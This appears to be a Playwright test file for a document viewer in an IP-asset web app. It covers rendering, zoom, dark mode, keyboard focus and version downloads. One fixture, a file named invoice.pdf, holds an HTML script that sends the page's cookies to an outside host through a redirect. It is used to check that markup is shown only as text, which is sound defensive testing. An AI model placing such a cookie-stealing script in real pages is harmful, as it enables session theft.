import { readFile } from 'node:fs/promises';
import { update } from '@ipr/program/update';
import { makeDocx, makeXlsx } from '@ipr/viewer/testing/make-office';
import { expect, type Page } from '@playwright/test';
import { makePng, makeWav } from '../src/files/make-media.ts';
import { makePdf } from '../src/files/make-pdf.ts';
import { recordFilm } from '../src/files/record-film.ts';
import { closePagesAfterwards } from '../src/pages/close-pages.ts';
import { openingMs, viewerFor } from '../src/pages/viewer.ts';
import { inspectDialog, setUpFiles, type ViewerStage } from '../src/pages/viewer-set-up.ts';
import { test } from '../src/stack/shared-stack.ts';

test.describe.configure({ mode: 'serial' });
closePagesAfterwards();

const drawing = 'the displacer is magnetic 8c1f27';
const notes = Buffer.from(
  `Motor, first sketch: ${drawing}\n${'A line like many others.\r\n'.repeat(60_000)}the very end\n`,
);
const trap = Buffer.from(
  '<!doctype html><html><body><script>top.location="https://example.org/?"+document.cookie</script><h1>Invoice</h1></body></html>',
);
const files = {
  'notes.txt': notes,
  'photo.png': makePng(900, 600),
  'plan.pdf': makePdf('A motor', 40_000),
  'tone.wav': makeWav(1),
  'invoice.pdf': trap,
  'pages.pdf': makePdf(['The rotor', 'The stator', 'The magnetic displacer'], 40_000),
  'letter.docx': Buffer.from(
    makeDocx({ heading: 'Licence', paragraph: 'The displacer is magnetic.', link: 'https://example.org/leak' }),
  ),
  'parts.xlsx': Buffer.from(
    makeXlsx('Parts', [
      ['Name', 'Count'],
      ['Rotor', 3],
    ]),
  ),
  'parts.csv': Buffer.from('Name;Count\nRotor;3\n"Displacer; magnetic";1\n'),
  'letter.doc': Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old letter', 'latin1'),
} as const;

let stage: ViewerStage<keyof typeof files | 'film.webm'>;
let page: Page;

test.beforeAll(async ({ browser, openStack }) => {
  stage = await setUpFiles(await openStack(), 'viewer.example', { ...files, 'film.webm': await recordFilm(browser) });
  page = await stage.signedIn(browser, 'ada');
});

test.afterAll(() => stage.end());

test('an owner views a text, a picture, a PDF and a recording without a watermark', async () => {
  const viewer = viewerFor(page, stage.stack.origin);
  await test.step('a text, which opens at once and continues on scrolling', async () => {
    await viewer.goTo(stage.ids['notes.txt']);
    await viewer.open('notes.txt');
    const text = viewer.content('notes.txt');
    await expect(text.getByText(drawing)).toBeVisible();
    await inspectDialog(page, 'viewer-text', 'File notes.txt');
    await expect(async () => {
      await (await viewer.frame('notes.txt')).evaluate(() => window.scrollTo(0, document.body.scrollHeight));
      await expect(text.getByText('the very end')).toBeVisible({ timeout: 100 });
    }).toPass({ intervals: [50], timeout: 120_000 });
    await expect(text.locator('.mark')).toHaveCount(0);
    await viewer.close('notes.txt');
  });
  await test.step('a picture, fitted and larger', async () => {
    await viewer.goTo(stage.ids['photo.png']);
    await viewer.open('photo.png');
    const picture = viewer.content('photo.png').getByRole('img', { name: 'photo.png' });
    await expect(picture).toBeVisible();
    await inspectDialog(page, 'viewer-image', 'File photo.png');
    const fitted = (await picture.boundingBox())?.width ?? 0;
    await page.getByRole('button', { name: 'Zoom in' }).click();
    await expect(page.getByText('150 %')).toBeVisible();
    await expect.poll(async () => ((await picture.boundingBox())?.width ?? 0) / fitted).toBeCloseTo(1.5, 1);
    await page.getByRole('button', { name: 'Reset zoom' }).click();
    await expect.poll(async () => (await picture.boundingBox())?.width).toBeCloseTo(fitted, 0);
    await viewer.close('photo.png');
  });
  await test.step('a PDF, at the specified zoom first', async () => {
    await viewer.goTo(stage.ids['plan.pdf']);
    await viewer.open('plan.pdf');
    await expect(viewer.content('plan.pdf').getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
    await expect(page.getByText('80 %')).toBeVisible();
    await test.step('whose words can be selected', async () => {
      await viewer.content('plan.pdf').getByText('A motor', { exact: true }).click({ clickCount: 3 });
      const frame = await viewer.frame('plan.pdf');
      expect(await frame.evaluate(() => String(getSelection()).trim())).toBe('A motor');
    });
    const ink = async () =>
      (await viewer.frame('plan.pdf')).evaluate(() => {
        const canvas = document.querySelector('canvas');
        const pixels = canvas?.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
        return pixels.filter((value, at) => at % 4 === 0 && value < 100).length;
      });
    await expect.poll(ink).toBeGreaterThan(100);
    await inspectDialog(page, 'viewer-pdf', 'File plan.pdf');
    await page.getByRole('button', { name: 'Zoom in' }).click();
    await expect(page.getByText('100 %')).toBeVisible();
    await expect.poll(ink).toBeGreaterThan(100);
    await test.step('its text layer matches the drawn words at every zoom', async () => {
      const apart = async () =>
        (await viewer.frame('plan.pdf')).evaluate(() => {
          const [words, sheet] = [document.querySelector('.words span'), document.querySelector('.page')];
          const [inner, outer] = [words?.getBoundingClientRect(), sheet?.getBoundingClientRect()];
          // 72 of 595 units from the left, and a line of 24 units is about 84 units long.
          if (!inner || !outer) return 1;
          const unit = outer.width / 595;
          return Math.max(Math.abs((inner.left - outer.left) / unit - 72), Math.abs(inner.width / unit - 84) / 2);
        });
      await expect.poll(apart).toBeLessThan(4);
    });
    await viewer.close('plan.pdf');
  });
  await test.step('a recording, which plays', async () => {
    await viewer.goTo(stage.ids['tone.wav']);
    await viewer.open('tone.wav');
    await expect(viewer.content('tone.wav').locator('audio')).toBeVisible();
    const length = async () =>
      (await viewer.frame('tone.wav')).evaluate(() => document.querySelector('audio')?.duration ?? 0);
    await expect.poll(length).toBeCloseTo(1, 1);
    await inspectDialog(page, 'viewer-audio', 'File tone.wav');
    await viewer.close('tone.wav');
  });
});

test('a film plays, and dark mode stays readable', async () => {
  const viewer = viewerFor(page, stage.stack.origin);
  await page.evaluate(() => localStorage.setItem('ui-theme', 'dark'));
  for (const [name, seen] of [
    ['film.webm', 'video'],
    ['tone.wav', 'audio'],
    ['plan.pdf', 'canvas'],
    ['notes.txt', 'pre'],
  ] as const) {
    await viewer.goTo(stage.ids[name]);
    await viewer.open(name);
    await expect(viewer.content(name).locator(seen).first()).toBeVisible();
    await inspectDialog(page, `viewer-dark-${seen}`, `File ${name}`);
    if (name === 'film.webm') {
      const frame = await viewer.frame(name);
      await frame.evaluate(() => document.querySelector('video')?.play());
      await expect
        .poll(() => frame.evaluate(() => document.querySelector('video')?.currentTime ?? 0))
        .toBeGreaterThan(0);
    }
    await viewer.close(name);
  }
  await page.evaluate(() => localStorage.setItem('ui-theme', 'light'));
});

test('a name that does not fit its content warns, and markup is only ever text', async () => {
  const viewer = viewerFor(page, stage.stack.origin);
  await viewer.goTo(stage.ids['invoice.pdf']);
  await viewer.open('invoice.pdf');
  await expect(page.getByText('The name indicates a PDF document, the content is a text (text/html).')).toBeVisible();
  await expect(viewer.content('invoice.pdf').getByText('<h1>Invoice</h1>')).toBeVisible();
  await inspectDialog(page, 'viewer-mismatch', 'File invoice.pdf');
  expect(page.url()).toContain(stage.stack.origin);
  await viewer.close('invoice.pdf');
});

test('the pages of a PDF are counted, chosen from small pictures, fitted to the width and searched', async () => {
  const viewer = viewerFor(page, stage.stack.origin);
  await viewer.goTo(stage.ids['pages.pdf']);
  await viewer.open('pages.pdf');
  const dialog = viewer.dialog('pages.pdf');
  const content = viewer.content('pages.pdf');
  await dialog.getByRole('button', { name: 'Fit width' }).click();
  const spare = async () =>
    (await viewer.frame('pages.pdf')).evaluate(() => {
      const { clientWidth } = document.documentElement;
      return clientWidth - (document.querySelector('.page')?.getBoundingClientRect().width ?? 0);
    });
  await expect.poll(spare).toBeLessThan(40);
  await dialog.getByRole('textbox', { name: 'Search in the file' }).fill('magnetic');
  await expect(dialog.getByText('1 of 1', { exact: true })).toBeVisible();
  await expect(dialog.getByRole('textbox', { name: 'Page number' })).toHaveValue('3');
  await dialog.getByRole('button', { name: 'Pages' }).click();
  await content.getByRole('button', { name: 'Page 1 of 3' }).click();
  await expect(dialog.getByRole('textbox', { name: 'Page number' })).toHaveValue('1');
  await inspectDialog(page, 'viewer-pages', 'File pages.pdf');
  await viewer.close('pages.pdf');
});

test('Office files and tables are read in the frame, where nothing of them leads out', async () => {
  const viewer = viewerFor(page, stage.stack.origin);
  for (const [name, words] of [
    ['letter.docx', 'The displacer is magnetic.'],
    ['parts.xlsx', 'Rotor'],
    ['parts.csv', 'Displacer; magnetic'],
  ] as const) {
    await viewer.goTo(stage.ids[name]);
    await viewer.open(name);
    await expect(viewer.content(name).getByText(words)).toBeVisible();
    await expect(viewer.content(name).locator('a')).toHaveCount(0);
    await inspectDialog(page, `viewer-${name.replace('.', '-')}`, `File ${name}`);
    await viewer.close(name);
  }
});

test('an Office file of an old format can only be downloaded, with the reason', async () => {
  const viewer = viewerFor(page, stage.stack.origin);
  await viewer.goTo(stage.ids['letter.doc']);
  await viewer.open('letter.doc');
  const dialog = viewer.dialog('letter.doc');
  await expect(dialog.getByText(/^This Office file needs an office program/)).toBeVisible();
  await inspectDialog(page, 'viewer-office', 'File letter.doc');
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    dialog.getByRole('button', { name: 'Download File' }).click(),
  ]);
  expect((await readFile(await file.path())).equals(files['letter.doc'])).toBe(true);
  await viewer.close('letter.doc');
});

test('by keyboard alone a file is opened, read and left again', async () => {
  const viewer = viewerFor(page, stage.stack.origin);
  await viewer.goTo(stage.ids['plan.pdf']);
  await page.getByRole('button', { name: 'View File' }).focus();
  await page.keyboard.press('Enter');
  const dialog = viewer.dialog('plan.pdf');
  await expect(dialog).toBeVisible({ timeout: openingMs });
  await expect(viewer.content('plan.pdf').getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
  await test.step('plus, minus and zero zoom, in the frame and at the buttons', async () => {
    await page.locator('iframe').focus();
    await page.keyboard.press('+');
    await expect(page.getByText('100 %')).toBeVisible();
    await page.getByRole('button', { name: 'Zoom out' }).focus();
    await page.keyboard.press('-');
    await page.keyboard.press('-');
    await expect(page.getByText('60 %')).toBeVisible();
    await page.keyboard.press('0');
    await expect(page.getByText('80 %')).toBeVisible();
  });
  await dialog.getByRole('button', { name: 'Close' }).focus();
  // From the last element the focus may move to the browser's own bars and back; never behind the dialog.
  const seen = new Set<string>();
  for (let steps = 0; steps < 14; steps++) {
    await page.keyboard.press('Tab');
    seen.add(
      await dialog.evaluate((element) => {
        const { activeElement, body } = document;
        if (activeElement === body || !activeElement) return 'browser';
        return element.contains(activeElement) ? activeElement.tagName : 'behind';
      }),
    );
  }
  expect([...seen]).toEqual(expect.arrayContaining(['BUTTON', 'IFRAME']));
  expect([...seen]).not.toContain('behind');
  await page.locator('iframe').focus();
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await expect(page.getByRole('button', { name: 'View File' })).toBeFocused();
});

test('every version is shown with its fields and can be downloaded', async () => {
  const better = Buffer.from('a better motor');
  await update(
    stage.ada,
    { changes: {}, file: new File([new Uint8Array(better)], 'better.txt') },
    { id: stage.ids['notes.txt'], version: 1 },
  );
  await page.goto(`${stage.stack.origin}/assets/${stage.ids['notes.txt']}`);
  for (const [number, name, bytes, words] of [
    [2, 'better.txt', better, 'a better motor'],
    [1, 'notes.txt', notes, drawing],
  ] as const) {
    await page.getByRole('button', { name: `View version ${number}` }).click();
    const dialog = page.getByRole('dialog', { name: new RegExp(`^Version ${number}:`) });
    await expect(dialog.getByText(name, { exact: true })).toBeVisible({ timeout: openingMs });
    for (const label of [
      'Internal Date',
      'Internal Asset ID',
      'Related Patent',
      'Description',
      'IP Type',
      'IP Content',
    ])
      await expect(dialog.getByRole('term').filter({ hasText: label })).toBeVisible();
    await expect(dialog.getByRole('heading', { name: 'IP Classification' })).toBeVisible();
    await dialog.getByRole('button', { name: 'View File' }).click();
    await expect(viewerFor(page, stage.stack.origin).content(name).getByText(words)).toBeVisible({
      timeout: openingMs,
    });
    await inspectDialog(page, `viewer-version-${number}`, new RegExp(`^Version ${number}:`));
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      dialog.getByRole('button', { name: 'Download File' }).click(),
    ]);
    expect(file.suggestedFilename()).toBe(name);
    expect((await readFile(await file.path())).equals(bytes)).toBe(true);
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
  }
});
